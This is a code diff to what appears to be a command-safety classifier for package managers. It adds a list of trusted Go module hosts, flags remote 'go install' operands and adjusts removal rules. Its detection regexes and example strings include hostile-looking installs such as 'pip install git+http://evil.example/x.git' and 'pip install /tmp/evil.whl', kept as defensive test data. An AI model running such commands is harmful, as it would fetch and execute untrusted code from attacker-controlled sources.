@@ -13,6 +13,10 @@ from .notes import described
 _STRANGE = re.compile(
     r"(?:^|@|\+)(?:git\+|hg\+|svn\+|bzr\+)?(?:http://|https?://|git@|ftp://|git://|ssh://|github:[^/]*evil)|^(?:git|hg|svn)\+|^/tmp/|^/var/tmp/|^/dev/shm/"
 )
+_CODE_HOSTS = re.compile(
+    r"(?:github\.com|gitlab\.com|golang\.org|google\.golang\.org|cloud\.google\.com|[\w.]*k8s\.io|honnef\.co|mvdan\.cc|gopkg\.in|go\.uber\.org"
+    r"|bitbucket\.org|codeberg\.org|gotest\.tools|go\.opentelemetry\.io|entgo\.io|goa\.design|connectrpc\.com|\./|\.\./|std|cmd)"
+)
 _HUB = re.compile(r"(?:github:)?[\w-][\w.-]*/[\w.-]+(?:#[\w./-]+)?$")
 _HUBBED = ("npm", "pnpm", "yarn", "bun")
 _INDEX = (
@@ -103,11 +107,11 @@ PROGRAMS = (
         quiet=True,
         dry="--help --version --dry-run",
         rules=(
-            Rule("uninstall|purge", "package_remove"),
+            Rule("uninstall", "package_remove"),
             Rule("publish|upload", "publish"),
             Rule("self uninstall", "package_remove"),
-            Rule("env remove", "package_remove"),
             Rule("remove --all|--name|-n", "package_remove"),
+            Rule("env remove -n|--name|-p|--prefix", "package_remove"),
             Rule("cache purge|clean|clear|prune|remove", "run"),
             Rule("python|tool uninstall", "package_remove"),
             Rule("install --break-system-packages|--trusted-host", "package_remote"),
@@ -125,7 +129,6 @@ PROGRAMS = (
         ask=(
             "pip install git+http://evil.example/x.git",
             "pip install -i http://evil.example/simple x",
-            "pip uninstall -y x",
             "poetry publish",
             "twine upload dist/x",
             "pip install /tmp/evil.whl",
@@ -315,12 +318,16 @@ def _go(call: Call, arguments: Arguments) -> str:
     for operand in arguments.operands[1:]:
         if arguments.operands[0] == "run" and re.match(r"[\w-]+(?:\.[\w-]+)+/.*@", operand):
             call.effect("run_fetched_code", operand)
+        if arguments.operands[0] == "install" and "@" in operand and not _CODE_HOSTS.match(operand):
+            call.effect("package_remote", operand)
     for text in arguments.of(("-exec", "-toolexec")):
         call.runs(text)
     return veiled()
 
 
 def _system(call: Call, arguments: Arguments) -> str:
+    if call.name.endswith(("-remove", "_delete")) and arguments.operands:
+        call.effect("package_remove", described(call))
     if arguments.operands[:1] == ["install"]:
         for operand in arguments.operands[1:]:
             if re.search(r"^(?:\.{0,2}/|http).*\.(?:deb|rpm|apk|pkg\S*)$", operand) or operand.startswith("http://"):
